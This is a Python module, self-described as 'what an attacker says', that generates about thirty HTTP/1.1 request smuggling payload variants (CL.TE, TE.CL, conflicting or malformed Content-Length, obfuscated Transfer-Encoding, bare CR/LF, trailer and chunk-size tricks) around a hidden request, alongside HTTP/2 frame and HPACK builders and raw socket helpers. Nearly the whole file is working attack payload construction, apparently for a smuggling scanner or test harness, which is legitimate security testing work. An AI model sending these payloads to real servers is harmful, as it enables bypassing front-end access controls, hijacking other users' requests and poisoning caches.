"""What an attacker says: bytes that daemons may understand in two ways, and HTTP/2."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def smuggling(hidden: bytes) -> dict[str, bytes]:
    """Return what stands behind the first line and Host, by what is odd about it.

    ``hidden`` is a request that nobody may take for one who has not answered it.
    """
    size, chunk = len(hidden), b"%x\r\n%b\r\n0\r\n\r\n" % (len(hidden), hidden)
    chunked, ended = b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"
    whole = len(ended) + size
    length = b"Content-Length: %d\r\n"
    heads = {
        "CL.TE": (chunked + length % whole, ended + hidden),
        "TE.CL": (length % 4 + chunked, chunk),
        "two lengths": (length % 0 + length % size, hidden),
        "two lengths, the other way": (length % size + length % 0, hidden),
        "a list of lengths": (b"Content-Length: 0, %d\r\n" % size, hidden),
        "a sign": (b"Content-Length: +%d\r\n" % size, hidden),
        "a negative length": (b"Content-Length: -1\r\n", hidden),
        "hexadecimal": (b"Content-Length: 0x%x\r\n" % size, hidden),
        "a space before the colon": (b"Content-Length : %d\r\n" % size, hidden),
        "a folded length": (b"X: y\r\n " + length % size, hidden),
        "a folded coding": (b"Transfer-Encoding:\r\n chunked\r\n", ended + hidden),
        "a coding that is none": (
            length % whole + b"Transfer-Encoding: xchunked\r\n",
            ended + hidden,
        ),
        "a tab": (
            length % whole + b"Transfer-Encoding:\tchunked\r\n",
            ended + hidden,
        ),
        "a vertical tab": (
            length % whole + b"Transfer-Encoding: \x0bchunked\r\n",
            ended + hidden,
        ),
        "two codings": (
            length % whole + b"Transfer-Encoding: chunked, identity\r\n",
            ended + hidden,
        ),
        "an underscore": (
            length % whole + b"Transfer_Encoding: chunked\r\n",
            ended + hidden,
        ),
        "a bare CR": (length % whole + b"X: y\rTransfer-Encoding: chunked\r\n", ended),
        "a bare LF": (b"X: y\n" + chunked.replace(b"\r", b""), ended + hidden),
        "a length that Connection names": (
            length % size + b"Connection: keep-alive, Content-Length\r\n",
            hidden,
        ),
        "a coding that Connection names": (
            chunked + b"Connection: Transfer-Encoding\r\n",
            ended + hidden,
        ),
        "Expect": (length % size + b"Expect: 100-continue\r\n", hidden),
        "an odd Expect": (length % size + b"Expect: y 100-continue\r\n", hidden),
        "an upgrade": (
            length % size + b"Connection: Upgrade, HTTP2-Settings\r\n"
            b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
            hidden,
        ),
        "a trailer": (
            chunked + b"Trailer: Content-Length\r\n",
            b"1\r\nx\r\n0\r\n" + length % size + b"\r\n" + hidden,
        ),
        "an extension of a chunk": (
            chunked,
            b"1;a=\nX\r\nx\r\n" + ended + hidden,
        ),
        "chunks that end in LF": (chunked, b"1\nx\n0\n\n" + hidden),
        "a chunk and more": (chunked, b"1\r\nxX" + ended + hidden),
        "a chunk of 0x": (chunked, b"0x1\r\nx\r\n" + ended + hidden),
        "a chunk too large for a number": (
            chunked,
            b"f0000000000000001\r\nx\r\n" + ended + hidden,
        ),
        "a chunk below nothing": (chunked, b"-1\r\n" + ended + hidden),
    }
    return {name: head + b"\r\n" + body for name, (head, body) in heads.items()}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113 4.1)."""
    size = struct.pack(">I", len(payload))[1:]
    return size + struct.pack(">BBI", kind, flags, stream) + payload


def fields(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    """Return header fields as literals that are not indexed (RFC 7541 6.2.2)."""
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs)


def _text(value: bytes) -> bytes:
    """Return a string of HPACK; one byte for its length is enough (below 127)."""
    return bytes((len(value),)) + value


def ask(stream: int, *more: tuple[bytes, bytes], end: bool, **named: bytes) -> bytes:
    """Return the HEADERS of one request."""
    pseudo = {"method": b"GET", "scheme": b"https", "path": b"/", **named}
    pseudo.setdefault("authority", b"www.example.com")
    pairs = [(b":" + name.encode(), value) for name, value in pseudo.items()]
    flags = END_HEADERS | (END_STREAM if end else 0)
    return frame(HEADERS, flags, stream, fields((*pairs, *more)))


def opened(connection: socket.socket) -> socket.socket:
    """Begin to speak HTTP/2."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
    return connection


def all_of(connection: socket.socket, seconds: float) -> bytes:
    """Return what comes until nothing does for so long, or the end."""
    connection.settimeout(seconds)
    came = b""
    try:
        while data := connection.recv(65536):
            came += data
    except OSError:
        pass
    return came
